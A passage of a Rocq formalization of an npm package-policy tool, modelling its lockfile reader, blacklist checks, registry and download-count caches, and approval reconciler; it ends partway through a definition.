(** * package-policy: the policy engine and its caches, embedded in Rocq

    The development follows the TypeScript sources of the repository:

    - [src/lib/index.ts] and [src/unnamed/part_002] are two revisions of the
      same module ([cacheRegistry], [readInstalledPackagesFromLockfile],
      [processRepo], ...).  Where they agree the code is embedded once; where
      they differ the definition takes the revision as an argument
      ([IndexRevision]) or exists once per revision.
    - [src/lib/package-downloads.ts] and [src/unnamed/part_003] are two
      revisions of the popularity module; [checkPackageDownloads] exists once
      per revision ([DownloadsRevision]).
    - [src/lib/utils.ts] gives [packageNameFromPath], [src/lib/fetch.ts] gives
      [fetchJson].
    - [src/lib/node-cve.ts] and [src/unnamed/part_001] are two revisions of
      the check of Node.js against the advisory index ([CveRevision]).
    - [getConfig] and [main] have the same text in both revisions of
      [index.ts]; [main] acts on a [Host], of which a [World] is the part that
      one call of [processRepo] sees.

    Conventions of the embedding:

    - JavaScript strings are [string]; [<] on strings is the lexicographic
      order of [String.compare].
    - Objects used as dictionaries are finite maps of their own properties
      ([gmap string _]); where enumeration order matters (the lockfile's
      [packages], the [deps] record, a manifest's [scripts]) they are
      association lists in enumeration order.  The popularity cache, which
      the code reads with [obj[name]] at the name of any dependency, is a
      [JsObject]: its own properties, and those it inherits from its
      prototype.
    - Numbers are integers ([Z]); a number is falsy exactly when it is [0].
    - JSON and YAML read from disk or from the network are typed by the
      shape the code expects.  A file that cannot be read, or whose content
      the parser rejects, is the [Bad...] case of the file; a registry cache
      file of another shape is the [Unreadable] file, a response of another
      shape the failed request.
    - Asynchronous code is a state-and-exception monad [M] over the [World]
      (cache files, approval record, request log).  The callbacks handed to
      [Promise.all] are run one after the other, in the order of the slice.
    - Library functions ([semver.satisfies], [semver.intersects],
      [path.basename], [Date], [parseDuration]) are parameters, and so are
      the properties of [Object.prototype] and [Array.prototype];
      [yaml.parse] and [JSON.parse] are seen through the documents they
      return, and [yaml.parse] gives back what [yaml.stringify] was given.
    - An exception is [Throw] with a text that names its kind; the text of
      a library's message is not modelled.
    - Console output is not part of the model, and the styling [chalk] adds
      to a message is left out. *)

From Stdlib Require Import ZArith Sorted Permutation.
From stdpp Require Import base option list gmap strings pretty sorting.

(** ** JavaScript helpers *)

(** [a < b] on strings. *)
Definition js_lt (a b : string) : bool := String.ltb a b.

(** The comparator written twice in [index.ts]:
    [if (a.k < b.k) return -1; if (a.k > b.k) return 1; return 0]. *)
Definition compareBy {A : Type} (k : A → string) (a b : A) : Z :=
  if js_lt (k a) (k b) then (-1)%Z
  else if js_lt (k b) (k a) then 1%Z
  else 0%Z.

(** [Array.prototype.sort(compareFn)].  ECMAScript requires the sort to be
    stable, which fixes the result for a comparator that is a total preorder:
    it is the stable insertion sort below. *)
Section js_sort.
Context {A : Type} (compareFn : A → A → Z).

Fixpoint sort_insert (x : A) (l : list A) : list A :=
  match l with
  | [] => [x]
  | y :: l' =>
      if (compareFn x y <=? 0)%Z then x :: y :: l'
      else y :: sort_insert x l'
  end.

Fixpoint js_sort (l : list A) : list A :=
  match l with
  | [] => []
  | x :: l' => sort_insert x (js_sort l')
  end.
End js_sort.

(** ** Data model ([index.ts], interfaces [Warning], [Dependency], [Config]) *)

Inductive WarningType := license | minPackageAge | minWeeklyDownloads | script.

Global Instance WarningType_eq_dec : EqDecision WarningType.
Proof. solve_decision. Defined.

(** What a template literal prints for a [type]. *)
Definition type_string (t : WarningType) : string :=
  match t with
  | license => "license"
  | minPackageAge => "minPackageAge"
  | minWeeklyDownloads => "minWeeklyDownloads"
  | script => "script"
  end.

Record Warning := {
  w_package : string;
  w_message : string;
  w_type : WarningType;
  w_cacheKey : string;
}.

(** An entry of [package-policy.lock]: [{ package, type, cacheKey }]. *)
Record Approval := {
  a_package : string;
  a_type : WarningType;
  a_cacheKey : string;
}.

Global Instance Approval_eq_dec : EqDecision Approval.
Proof. solve_decision. Defined.

Record Dependency := {
  d_name : string;
  d_path : string;
  d_version : string;
  d_license : option string;
}.

Record Config := {
  c_minPackageAge : option Z;
  c_minWeeklyDownloads : option Z;
  c_licenses : list string;
  c_blacklist : gmap string string;
  c_ignore : gmap string string;
}.

(** ** The approval reconciler ([processRepo], "Build a cache index" to the
       filter of already approved warnings; the same text in both revisions) *)

(** [`${c.package}${c.cacheKey}${c.type}`] *)
Definition approvalIndexKey (c : Approval) : string :=
  a_package c +:+ a_cacheKey c +:+ type_string (a_type c).

(** [`${problem.package}${problem.cacheKey}${problem.type}`] *)
Definition warningIndexKey (problem : Warning) : string :=
  w_package problem +:+ w_cacheKey problem +:+ type_string (w_type problem).

(** [const cacheIndex = new Map(); for (...) cacheIndex.set(key, c)] *)
Definition buildCacheIndex (cacheData : list Approval) : gmap string Approval :=
  foldl (λ cacheIndex c, <[approvalIndexKey c := c]> cacheIndex) ∅ cacheData.

(** [{ package: problem.package, type: problem.type, cacheKey: problem.cacheKey }] *)
Definition approvalOf (problem : Warning) : Approval :=
  {| a_package := w_package problem;
     a_type := w_type problem;
     a_cacheKey := w_cacheKey problem |}.

(** [cacheIndex.has(k)] *)
Definition cacheIndex_has (cacheIndex : gmap string Approval) (k : string) : bool :=
  bool_decide (is_Some (cacheIndex !! k)).

Record Reconciled := {
  r_cacheData : list Approval;   (* the rebuilt record, what a later write stores *)
  r_warnings : list Warning;     (* the warnings left to approve *)
}.

(** The prior record [cacheData] is indexed, then reset to [[]] and refilled
    from [warnings], sorted by [package]; [warnings] is filtered against the
    index. *)
Definition reconcile (cacheData : list Approval) (warnings : list Warning) : Reconciled :=
  let cacheIndex := buildCacheIndex cacheData in
  let cacheData := [] in
  let cacheData := foldl (λ acc problem, acc ++ [approvalOf problem]) cacheData warnings in
  let cacheData := js_sort (compareBy a_package) cacheData in
  let warnings :=
    List.filter (λ problem, negb (cacheIndex_has cacheIndex (warningIndexKey problem)))
      warnings in
  {| r_cacheData := cacheData; r_warnings := warnings |}.

(** A warning counts as previously approved when the filter drops it. *)
Definition previouslyApproved (cacheData : list Approval) (problem : Warning) : bool :=
  cacheIndex_has (buildCacheIndex cacheData) (warningIndexKey problem).

(** The order the sorts establish: ascending by the key [k]. *)
Definition le_by {A : Type} (k : A → string) (a b : A) : Prop :=
  String.le (k a) (k b).

(** ** [utils.ts]: [packageNameFromPath] *)

(** [s.substring(n, s.length)] *)
Fixpoint substringFrom (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S _, EmptyString => EmptyString
  | S n', String _ s' => substringFrom n' s'
  end.

(** [s.lastIndexOf(sub)], scanning the suffix of [s] that starts at index
    [i]; [None] is JavaScript's [-1]. *)
Fixpoint lastIndexOf_from (sub s : string) (i : nat) : option nat :=
  match s with
  | EmptyString => if String.prefix sub s then Some i else None
  | String _ s' =>
      match lastIndexOf_from sub s' (S i) with
      | Some j => Some j
      | None => if String.prefix sub s then Some i else None
      end
  end.

Definition lastIndexOf (s sub : string) : option nat := lastIndexOf_from sub s 0.

Section utils.
(** [basename] of [node:path]. *)
Variable basename : string → string.

Definition packageNameFromPath (path : string) : string :=
  match lastIndexOf path "node_modules/" with
  | Some (S i') =>                                    (* i > 0 *)
      substringFrom (S i' + String.length "node_modules/") path
  | _ =>
      match lastIndexOf path "@" with
      | Some (S i1') => substringFrom (S i1') path    (* i1 > 0 *)
      | _ => basename path
      end
  end.
End utils.

(** ** Results of fallible code *)

(** A computation returns, throws, or ends the process ([process.exit]). *)
Inductive Result (A : Type) :=
  | Ok (a : A)
  | Throw (err : string)
  | Exit (code : Z).
Arguments Ok {A} a.
Arguments Throw {A} err.
Arguments Exit {A} code.

(** ** [index.ts]: [readInstalledPackagesFromLockfile] *)

Inductive IndexRevision :=
  | lib_index_ts        (* src/lib/index.ts *)
  | unnamed_part_002.   (* src/unnamed/part_002 *)

(** One value of the lockfile's [packages] object. *)
Record PackageSpec := {
  s_name : option string;
  s_version : string;
  s_license : option string;
  s_link : bool;        (* spec.link === true *)
  s_optional : bool;    (* spec.optional === true *)
}.

(** What [dir] holds: [package-lock.json] parsed to the entries of
    [json.packages] in [Object.entries] order, and whether [yarn.lock] and
    [pnpm-lock.yaml] exist. *)
Record RepoDir := {
  dir_path : string;
  packageLockJson : option (list (string * PackageSpec));
  yarnLock : bool;
  pnpmLock : bool;
}.

(** [dir] with other entries in its [package-lock.json]. *)
Definition withPackages (packages : list (string * PackageSpec)) (dir : RepoDir) : RepoDir :=
  {| dir_path := dir_path dir;
     packageLockJson := Some packages;
     yarnLock := yarnLock dir;
     pnpmLock := pnpmLock dir |}.

(** A string is truthy when it is not empty. *)
Definition truthy (s : string) : bool := negb (String.eqb s "").

(** [deps[nameWithVersion]] on the record [deps], kept in insertion order.
    (A key contains ["@"], so it is never an integer index and
    [Object.values] enumerates in insertion order.) *)
Fixpoint deps_lookup (deps : list (string * Dependency)) (key : string) : option Dependency :=
  match deps with
  | [] => None
  | (k, d) :: deps' => if String.eqb k key then Some d else deps_lookup deps' key
  end.

Section extractor.
(** [semver.satisfies(version, range, { includePrerelease: true })] *)
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable rev : IndexRevision.

(** Only [part_002] has the guard [if (spec.optional === true) continue]. *)
Definition skipsOptional : bool :=
  match rev with
  | lib_index_ts => false
  | unnamed_part_002 => true
  end.

(** [spec.name || packageNameFromPath(installationPath)] *)
Definition packageNameOf (installationPath : string) (spec : PackageSpec) : string :=
  match s_name spec with
  | Some n => if truthy n then n else packageNameFromPath basename installationPath
  | None => packageNameFromPath basename installationPath
  end.

(** [`${packageName}@${spec.version}`] *)
Definition nameWithVersionOf (installationPath : string) (spec : PackageSpec) : string :=
  packageNameOf installationPath spec +:+ "@" +:+ s_version spec.

(** [const r = ranges?.[packageName]; r && semver.satisfies(version, r, ...)]:
    the range when the test holds. *)
Definition matchingRange (ranges : gmap string string) (packageName version : string)
    : option string :=
  match ranges !! packageName with
  | Some r => if truthy r && satisfies version r then Some r else None
  | None => None
  end.

(** The body of [for (const [installationPath, spec] of Object.entries(json.packages))]. *)
Fixpoint lockfileLoop (config : Config) (entries : list (string * PackageSpec))
    (deps : list (string * Dependency)) : Result (list (string * Dependency)) :=
  match entries with
  | [] => Ok deps
  | (installationPath, spec) :: entries' =>
      if String.eqb installationPath "" then
        lockfileLoop config entries' deps           (* Ignore the root module *)
      else if s_link spec then
        lockfileLoop config entries' deps           (* Ignore linked modules *)
      else if skipsOptional && s_optional spec then
        lockfileLoop config entries' deps           (* Ignore optional dependencies *)
      else
        let packageName := packageNameOf installationPath spec in
        let nameWithVersion := nameWithVersionOf installationPath spec in
        match deps_lookup deps nameWithVersion with
        | Some _ => lockfileLoop config entries' deps      (* Skip duplicates *)
        | None =>
            match matchingRange (c_blacklist config) packageName (s_version spec) with
            | Some blacklistVersion =>
                Throw ("Blacklisted version " +:+ packageName +:+ "@" +:+ s_version spec
                         +:+ " (" +:+ blacklistVersion +:+ ")")
            | None =>
                match matchingRange (c_ignore config) packageName (s_version spec) with
                | Some _ => lockfileLoop config entries' deps
                | None =>
                    lockfileLoop config entries'
                      (deps ++ [(nameWithVersion,
                                 {| d_name := packageName;
                                    d_path := installationPath;
                                    d_version := s_version spec;
                                    d_license := s_license spec |})])
                end
            end
        end
  end.

(** The guards at the head of the loop body: root, linked and (in
    [part_002]) optional entries are passed over. *)
Definition skippedEntry (installationPath : string) (spec : PackageSpec) : bool :=
  String.eqb installationPath "" || s_link spec || (skipsOptional && s_optional spec).

(** The test [ignoreVersion && semver.satisfies(spec.version, ignoreVersion, ...)]. *)
Definition ignoredEntry (config : Config) (installationPath : string) (spec : PackageSpec)
    : bool :=
  bool_decide (is_Some (matchingRange (c_ignore config)
                          (packageNameOf installationPath spec) (s_version spec))).

(** The test [blacklistVersion && semver.satisfies(spec.version, blacklistVersion, ...)]. *)
Definition blacklistedEntry (config : Config) (installationPath : string)
    (spec : PackageSpec) : bool :=
  bool_decide (is_Some (matchingRange (c_blacklist config)
                          (packageNameOf installationPath spec) (s_version spec))).

(** The [Dependency] the loop stores for an entry. *)
Definition dependencyOf (installationPath : string) (spec : PackageSpec) : Dependency :=
  {| d_name := packageNameOf installationPath spec;
     d_path := installationPath;
     d_version := s_version spec;
     d_license := s_license spec |}.

(** [d] is stored for the first entry of [entries] with its name@version
    that is neither passed over nor ignored. *)
Definition firstOccurrence (config : Config) (entries : list (string * PackageSpec))
    (d : Dependency) : Prop :=
  ∃ l1 p s l2,
    entries = l1 ++ (p, s) :: l2
    ∧ d = dependencyOf p s
    ∧ skippedEntry p s = false
    ∧ ignoredEntry config p s = false
    ∧ ∀ p' s', (p', s') ∈ l1 →
        nameWithVersionOf p' s' = nameWithVersionOf p s →
        skippedEntry p' s' = true ∨ ignoredEntry config p' s' = true.

Definition readInstalledPackagesFromLockfile (config : Config) (dir : RepoDir)
    : Result (list Dependency) :=
  match packageLockJson dir with
  | Some packages =>
      match lockfileLoop config packages [] with
      | Ok deps => Ok (js_sort (compareBy d_name) (map snd deps))
      | Throw err => Throw err
      | Exit code => Exit code
      end
  | None =>
      if yarnLock dir then Throw "yaml.lock not supported yet"
      else if pnpmLock dir then Throw "pnpm-lock.yaml not supported yet"
      else Throw ("No lockfile found in " +:+ dir_path dir)
  end.
End extractor.

(** [`${dep.name}@${dep.version}`] *)
Definition nameAtVersion (d : Dependency) : string :=
  d_name d +:+ "@" +:+ d_version d.

(** The character [@], and the strings without it. *)
Definition atSign : Ascii.ascii := Ascii.ascii_of_nat 64.

Fixpoint withoutAt (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c atSign) && withoutAt s'
  end.

(** ** The world a run acts on *)

(** What the code keeps of one version of a package: [{ license, scripts }];
    [scripts] in [Object.keys] order. *)
Record VersionMeta := {
  vm_license : option string;
  vm_scripts : option (list (string * string));
}.

(** The registry cache file of [index.ts]:
    [{ _version, time, versions: { <version>: { license, scripts } } }]. *)
Record RegistryCacheRecord := {
  rc_version : Z;
  rc_time : gmap string string;
  rc_versions : gmap string VersionMeta;
}.

(** The registry cache file of [part_002]:
    [{ _version, time, versions: [<version>, ...] }]. *)
Record RegistryCacheKeys := {
  rk_version : Z;
  rk_time : gmap string string;
  rk_versions : list string;
}.

(** [<cacheDir>/<packageName>.json].  [Unreadable] is content on which the
    [try] block of [cacheRegistry] throws (not JSON, or no usable
    [versions]); each revision reads the other's layout as a miss. *)
Inductive CacheFile :=
  | Unreadable
  | StoredRecord (cache : RegistryCacheRecord)
  | StoredKeys (cache : RegistryCacheKeys).

(** [package-policy.lock], parsed: [{ version, packages }]. *)
Record PolicyLock := {
  pl_version : Z;
  pl_packages : list Approval;
}.

(** [package-policy.lock] as [yaml.parse(await fs.readFile(...))] takes it:
    a file that cannot be read or that [yaml.parse] rejects, or a
    document. *)
Inductive PolicyLockFile :=
  | BadPolicyLock
  | PolicyLockYaml (data : PolicyLock).

(** [<cacheDir>/package-downloads.json] as
    [JSON.parse(await fs.readFile(...))] takes it: a file that cannot be read
    or that [JSON.parse] rejects, or the object [savePackageDownloadCache]
    wrote, from names to counts. *)
Inductive DownloadsFile :=
  | BadDownloadsJson
  | DownloadsJson (counts : gmap string Z).

(** ** Objects read with [obj[name]]

    [packageDownloadCache] is what [JSON.parse] made of
    [package-downloads.json], [{}] when there is no such file and, without
    [--cache], the array [[]].  [packageDownloadCache[dep.name]] reads an own
    property or, when the object has none of that name, the property it
    inherits from [Object.prototype] or [Array.prototype]. *)
Inductive ObjectKind :=
  | PlainObject
  | ArrayObject.

(** An inherited property: a method of the prototype or, under
    [__proto__], the prototype itself.  It is truthy and it is not a
    number; [<] converts it to a number ([None] is [NaN]) and a template
    literal prints it. *)
Record Inherited := {
  toNumber : option Z;
  toText : string;
}.

(** What [packageDownloadCache[dep.name] || (await checkPackageDownloads(dep.name))]
    can be. *)
Inductive Downloads :=
  | Count (n : Z)
  | NotACount (v : Inherited).

Global Instance Inherited_eq_dec : EqDecision Inherited.
Proof. solve_decision. Defined.

Global Instance Downloads_eq_dec : EqDecision Downloads.
Proof. solve_decision. Defined.

(** An object through its own properties that hold numbers; an array has
    [length] among them. *)
Record JsObject := {
  kind : ObjectKind;
  own : gmap string Z;
}.

(** [{}] *)
Definition emptyObject : JsObject := {| kind := PlainObject; own := ∅ |}.

(** [[]] *)
Definition emptyArray : JsObject :=
  {| kind := ArrayObject; own := {[ "length" := 0%Z ]} |}.

(** The value of a string of decimal digits. *)
Definition digitOf (c : Ascii.ascii) : option Z :=
  let n := Ascii.nat_of_ascii c in
  if (48 <=? n)%nat && (n <=? 57)%nat then Some (Z.of_nat (n - 48)) else None.

Fixpoint decimal (acc : Z) (s : string) : option Z :=
  match s with
  | EmptyString => Some acc
  | String c s' =>
      match digitOf c with
      | Some d => decimal (10 * acc + d) s'
      | None => None
      end
  end.

(** [name] is an array index: the canonical decimal string of an integer
    below [2^32 - 1]. *)
Definition arrayIndex (name : string) : option Z :=
  match name with
  | EmptyString => None
  | String _ _ =>
      match decimal 0 name with
      | Some i =>
          if String.eqb (pretty i) name && (i <? 2 ^ 32 - 1)%Z then Some i else None
      | None => None
      end
  end.

(** The properties that stay when [length] is set to [n]: all but the
    elements at the indices from [n] on. *)
Definition staysBelow (n : Z) (name : string) : bool :=
  match arrayIndex name with
  | Some i => (i <? n)%Z
  | None => true
  end.

(** [obj[name] = downloads].  On an array, [length] takes only an array
    length (otherwise a [RangeError] is thrown, [None] here) and drops the
    elements from it on, and an element at an index from [length] on
    extends [length].  A value read from the prototype and assigned back
    under its name adds no number: a method becomes an own property that
    holds the same function, which [JSON.stringify] leaves out, and
    [__proto__] is an accessor that gets back what it gave. *)
Definition setProperty (obj : JsObject) (name : string) (downloads : Downloads)
    : option JsObject :=
  let stored :=
    match downloads with
    | Count n => <[name := n]> (own obj)
    | NotACount _ => own obj
    end in
  match kind obj with
  | PlainObject => Some {| kind := PlainObject; own := stored |}
  | ArrayObject =>
      if String.eqb name "length" then
        match downloads with
        | Count n | NotACount {| toNumber := Some n |} =>
            if (0 <=? n)%Z && (n <? 2 ^ 32)%Z then
              Some {| kind := ArrayObject;
                      own := <["length" := n]>
                               (filter (λ kv, staysBelow n kv.1 = true) (own obj)) |}
            else None
        | NotACount {| toNumber := None |} => None
        end
      else
        match arrayIndex name with
        | Some i =>
            let length := default 0%Z (own obj !! "length") in
            Some {| kind := ArrayObject;
                    own := <["length" := Z.max length (i + 1)]> stored |}
        | None => Some {| kind := ArrayObject; own := stored |}
        end
  end.

(** A JSON document seen through the properties the code reads:
    [versions] and [time] when truthy, [downloads] when it is a number;
    [time] keeps the entries that are strings. *)
Record Json := {
  j_versions : option (gmap string VersionMeta);
  j_time : option (gmap string string);
  j_downloads : option Z;
}.

(** The outcome of one [fetch]: it rejects, or there is a response with its
    [ok] flag and its body ([None] when the body is not JSON). *)
Inductive Response :=
  | NetworkError
  | Http (ok : bool) (body : option Json).

(** [<dir>/<dep.path>/package.json] as [part_002] reads it: a manifest with
    its [scripts] and [license], or a file [JSON.parse] rejects. *)
Inductive ManifestFile :=
  | BadManifest
  | Manifest (scripts : option (list (string * string))) (license : option string).

Record World := {
  registryCacheFiles : gmap string CacheFile;      (* by package name *)
  packageDownloadsJson : option DownloadsFile;     (* <cacheDir>/package-downloads.json *)
  packagePolicyLock : option PolicyLockFile;       (* <dir>/package-policy.lock *)
  fetched : list string;                           (* URLs requested, oldest first *)
  prompts : nat;                                   (* calls of read() *)
}.

(** What a run is given and does not change. *)
Record Env := {
  opt_cache : bool;                          (* program.getOptionValue('cache') *)
  opt_ci : bool;                             (* program.getOptionValue('ci') *)
  net : list string → string → Response;     (* answer to a request, after the earlier ones *)
  cacheDirWritable : bool;                   (* mkdir and writeFile below cacheDir succeed *)
  policyLockWritable : bool;                 (* writeFile of package-policy.lock succeeds *)
  nodeModules : gmap string ManifestFile;    (* installed package.json files, by dep.path *)
  now : Z;                                   (* Date.now() *)
  answer : nat → option string;              (* the line entered at the n-th prompt;
                                                None when read() rejects *)
  inherited : ObjectKind → string → option Inherited;
                                             (* the properties of the prototypes *)
}.

Definition M (A : Type) : Type := World → Result A * World.

Global Instance M_ret : MRet M := λ A a w, (Ok a, w).

Global Instance M_bind : MBind M := λ A B k m w,
  match m w with
  | (Ok a, w') => k a w'
  | (Throw err, w') => (Throw err, w')
  | (Exit code, w') => (Exit code, w')
  end.

Definition throw {A : Type} (err : string) : M A := λ w, (Throw err, w).

(** [process.exit(code)] *)
Definition exit {A : Type} (code : Z) : M A := λ w, (Exit code, w).

(** [try { m } catch (err) { handler(err) }] *)
Definition try_catch {A : Type} (m : M A) (handler : string → M A) : M A := λ w,
  match m w with
  | (Throw err, w') => handler err w'
  | r => r
  end.

Definition liftResult {A : Type} (r : Result A) : M A := λ w, (r, w).

(** [for (const x of xs) st = await body(x, st)] *)
Fixpoint forM {A S : Type} (body : A → S → M S) (xs : list A) (st : S) : M S :=
  match xs with
  | [] => mret st
  | x :: xs' => st' ← body x st; forM body xs' st'
  end.

Definition logRequest (url : string) (w : World) : World :=
  {| registryCacheFiles := registryCacheFiles w;
     packageDownloadsJson := packageDownloadsJson w;
     packagePolicyLock := packagePolicyLock w;
     fetched := fetched w ++ [url];
     prompts := prompts w |}.

Definition setRegistryCacheFile (packageName : string) (f : CacheFile) (w : World) : World :=
  {| registryCacheFiles := <[packageName := f]> (registryCacheFiles w);
     packageDownloadsJson := packageDownloadsJson w;
     packagePolicyLock := packagePolicyLock w;
     fetched := fetched w;
     prompts := prompts w |}.

Definition setPackageDownloadsJson (cache : gmap string Z) (w : World) : World :=
  {| registryCacheFiles := registryCacheFiles w;
     packageDownloadsJson := Some (DownloadsJson cache);
     packagePolicyLock := packagePolicyLock w;
     fetched := fetched w;
     prompts := prompts w |}.

Definition setPackagePolicyLock (doc : PolicyLock) (w : World) : World :=
  {| registryCacheFiles := registryCacheFiles w;
     packageDownloadsJson := packageDownloadsJson w;
     packagePolicyLock := Some (PolicyLockYaml doc);
     fetched := fetched w;
     prompts := prompts w |}.

Definition countPrompt (w : World) : World :=
  {| registryCacheFiles := registryCacheFiles w;
     packageDownloadsJson := packageDownloadsJson w;
     packagePolicyLock := packagePolicyLock w;
     fetched := fetched w;
     prompts := S (prompts w) |}.

Inductive DownloadsRevision :=
  | lib_package_downloads_ts   (* src/lib/package-downloads.ts *)
  | unnamed_part_003.          (* src/unnamed/part_003 *)

(** The four scripts npm runs on installation. *)
Definition scriptList : list string := ["preinstall"; "install"; "postinstall"; "prepare"].

(** [scriptList.includes(script)] *)
Definition scriptList_includes (script : string) : bool :=
  bool_decide (script ∈ scriptList).

(** [config.minWeeklyDownloads && config.minWeeklyDownloads > 0]: the
    threshold when the check is enabled. *)
Definition enableDownloadCheck (config : Config) : option Z :=
  match c_minWeeklyDownloads config with
  | Some n => if (0 <? n)%Z then Some n else None
  | None => None
  end.

(** The [cacheKey] of a [minWeeklyDownloads] warning:
    [String(config.minWeeklyDownloads)] in [index.ts],
    ['minWeeklyDownloads=' + config.minWeeklyDownloads] in [part_002]. *)
Definition downloadsCacheKey (rev : IndexRevision) (threshold : Z) : string :=
  match rev with
  | lib_index_ts => pretty threshold
  | unnamed_part_002 => "minWeeklyDownloads=" +:+ pretty threshold
  end.

(** What the loop of [processRepo] accumulates. *)
Record Collected := {
  warnings : list Warning;
  packageDownloadCache : JsObject;
  checkedPackageDownloads : gset string;
}.

(** The double quote character, for messages. *)
Definition dquote : string := String (Ascii.ascii_of_nat 34) EmptyString.

Section run.
(** Library functions the code calls. *)
Variable satisfies : string → string → bool.   (* semver.satisfies, prereleases included *)
Variable basename : string → string.           (* node:path *)
Variable getTime : string → option Z.          (* new Date(s).getTime(); None is NaN *)
Variable env : Env.

(** ** [fetch.ts] *)

Definition fetchJson (url : string) : M Json := λ w,
  match net env (fetched w) url with
  | Http true (Some json) => (Ok json, logRequest url w)
  | _ => (Throw ("Failed to fetch " +:+ url), logRequest url w)
  end.

(** [const req = await fetch(url); const json = await req.json()], as
    [src/lib/package-downloads.ts] has it: no test of [req.ok]. *)
Definition fetchBody (url : string) : M Json := λ w,
  match net env (fetched w) url with
  | Http _ (Some json) => (Ok json, logRequest url w)
  | _ => (Throw ("Failed to fetch " +:+ url), logRequest url w)
  end.

(** ** [package-downloads.ts] *)

Definition getPackageDownloadCache : M JsObject := λ w,
  match packageDownloadsJson w with
  | None => (Ok emptyObject, w)      (* !existsSync(cacheFilePath) *)
  | Some BadDownloadsJson => (Throw "SyntaxError", w)
  | Some (DownloadsJson counts) => (Ok {| kind := PlainObject; own := counts |}, w)
  end.

(** [cache] is the [Record<string, number>] that [JSON.stringify] writes:
    the own properties of the object that hold numbers. *)
Definition savePackageDownloadCache (cache : gmap string Z) : M unit := λ w,
  if cacheDirWritable env then (Ok tt, setPackageDownloadsJson cache w)
  else (Throw "EACCES", w).

(** [obj[name]]: the own property or, without one, the inherited one;
    [None] is [undefined]. *)
Definition getProperty (obj : JsObject) (name : string) : option Downloads :=
  match own obj !! name with
  | Some n => Some (Count n)
  | None => NotACount <$> inherited env (kind obj) name
  end.

Definition downloadsUrl (packageName : string) : string :=
  "https://api.npmjs.org/downloads/point/last-week/" +:+ packageName.

(** The popularity request for [packageName], made in [w], fails: the
    fetch rejects, the response is not [ok], the body is not JSON, or it has
    no numeric [downloads]. *)
Definition popularityFetchFails (w : World) (packageName : string) : Prop :=
  match net env (fetched w) (downloadsUrl packageName) with
  | Http true (Some json) => j_downloads json = None
  | _ => True
  end.

Definition checkPackageDownloads (drev : DownloadsRevision) (packageName : string) : M Z :=
  match drev with
  | lib_package_downloads_ts =>
      json ← fetchBody (downloadsUrl packageName);
      match j_downloads json with
      | Some downloads => mret downloads
      | None => throw "Bad response: no `downloads` field"
      end
  | unnamed_part_003 =>
      try_catch
        (res ← fetchJson (downloadsUrl packageName);
         match j_downloads res with
         | Some downloads => mret downloads
         | None => throw "Bad response: no `downloads` field"
         end)
        (λ _, mret (-1)%Z)
  end.

(** ** [index.ts]: [cacheRegistry] *)

Definition writeRegistryCacheFile (packageName : string) (f : CacheFile) : M unit := λ w,
  if cacheDirWritable env then (Ok tt, setRegistryCacheFile packageName f w)
  else (Throw "EACCES", w).

Definition registryUrl (packageName : string) : string :=
  "https://registry.npmjs.org/" +:+ packageName.

(** The record stored for [packageName] serves a request for [version]: it
    has [_version] 1 and [version] is a key of its [versions]. *)
Definition servesVersion (w : World) (packageName version : string)
    (cache : RegistryCacheRecord) : Prop :=
  registryCacheFiles w !! packageName = Some (StoredRecord cache)
  ∧ rc_version cache = 1%Z
  ∧ is_Some (rc_versions cache !! version).

(** The registry answers a request made in [w] with a document that has
    [version] in both [versions] and [time]. *)
Definition registryKnows (w : World) (packageName version : string) : Prop :=
  ∃ json versions time,
    net env (fetched w) (registryUrl packageName) = Http true (Some json)
    ∧ j_versions json = Some versions ∧ is_Some (versions !! version)
    ∧ j_time json = Some time ∧ is_Some (time !! version).

(** The first [if] of [cacheRegistry]: the cache it returns, if it does. *)
Definition cachedRecord (packageName version : string) (w : World)
    : option RegistryCacheRecord :=
  if opt_cache env then        (* existsSync(cacheFile) && program.getOptionValue('cache') *)
    match registryCacheFiles w !! packageName with
    | Some (StoredRecord cache) =>
        if (rc_version cache =? 1)%Z then
          match rc_versions cache !! version with    (* cache.versions[version] *)
          | Some _ => Some cache
          | None => None
          end
        else None                                     (* thrown and caught *)
    | _ => None
    end
  else None.

(** [src/lib/index.ts] *)
Definition cacheRegistry (packageName version : string) : M RegistryCacheRecord := λ w,
  match cachedRecord packageName version w with
  | Some cache => (Ok cache, w)
  | None =>
      let url := registryUrl packageName in
      (json ← fetchJson url;
       match j_versions json with
       | None => throw ("No versions field in " +:+ url)
       | Some versions =>
       match versions !! version with
       | None => throw (packageName +:+ "@" +:+ version +:+ " was not found in the registry!")
       | Some _ =>
       match j_time json with
       | None => throw ("No time field in " +:+ url)
       | Some time =>
       match time !! version with
       | None => throw (packageName +:+ "@" +:+ version +:+ " has no time field in the registry!")
       | Some _ =>
           let requiredData :=
             {| rc_version := 1;
                rc_time := time;
                rc_versions :=
                  (λ data, {| vm_license := vm_license data;
                              vm_scripts := vm_scripts data |}) <$> versions |} in
           (if opt_cache env then
              try_catch (writeRegistryCacheFile packageName (StoredRecord requiredData))
                (λ _, mret tt)
            else mret tt);;
           mret requiredData
       end end end end) w
  end.

(** The same for the record of [part_002], whose [versions] is an array. *)
Definition servesVersionKeys (w : World) (packageName version : string)
    (cache : RegistryCacheKeys) : Prop :=
  registryCacheFiles w !! packageName = Some (StoredKeys cache)
  ∧ rk_version cache = 1%Z
  ∧ version ∈ rk_versions cache.

(** The first [if] of [cacheRegistry] in [part_002]:
    [cache.versions.includes(version)]. *)
Definition cachedKeys (packageName version : string) (w : World)
    : option RegistryCacheKeys :=
  if opt_cache env then
    match registryCacheFiles w !! packageName with
    | Some (StoredKeys cache) =>
        if (rk_version cache =? 1)%Z then
          if bool_decide (version ∈ rk_versions cache) then Some cache else None
        else None
    | _ => None
    end
  else None.

(** [src/unnamed/part_002]; [Object.keys(json.versions)] is the list of
    keys of the map, in the order [map_to_list] gives. *)
Definition cacheRegistryKeys (packageName version : string) : M RegistryCacheKeys := λ w,
  match cachedKeys packageName version w with
  | Some cache => (Ok cache, w)
  | None =>
      let url := registryUrl packageName in
      (json ← fetchJson url;
       match j_versions json with
       | None => throw ("No versions field in " +:+ url)
       | Some versions =>
       match versions !! version with
       | None => throw (packageName +:+ "@" +:+ version +:+ " was not found in the registry!")
       | Some _ =>
       match j_time json with
       | None => throw ("No time field in " +:+ url)
       | Some time =>
       match time !! version with
       | None => throw (packageName +:+ "@" +:+ version +:+ " has no time field in the registry!")
       | Some _ =>
           let requiredData :=
             {| rk_version := 1;
                rk_time := time;
                rk_versions := (map_to_list versions).*1 |} in
           (if opt_cache env then
